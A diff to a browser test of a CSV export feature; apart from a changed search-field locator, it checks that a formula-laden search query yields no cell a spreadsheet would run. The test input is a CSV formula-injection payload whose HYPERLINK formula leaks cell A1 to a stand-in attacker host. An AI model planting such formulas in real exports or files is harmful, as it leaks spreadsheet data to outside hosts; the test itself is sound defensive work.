@@ -47,7 +47,7 @@ test.describe('exports', () => {
   test('a CSV exported with a formula in the search has no cell a spreadsheet would run', async ({ page }) => {
     const formula = 'x,=HYPERLINK("https://evil.example/"&A1),+1,-1,@SUM(A1)'
     await page.goto(`/?view=board&q=${encodeURIComponent(formula)}`)
-    await expect(page.getByRole('searchbox')).toHaveValue(formula)
+    await expect(page.getByRole('combobox', { name: 'Search', exact: true })).toHaveValue(formula)
     const csv = await downloadFrom(page.getByRole('button', { name: 'Download the filtered items as CSV' }))
     const { citation, rows } = parseCsv(csv.body.toString('utf8'))
     expect(citation.get('Filters')).toContain(formula)
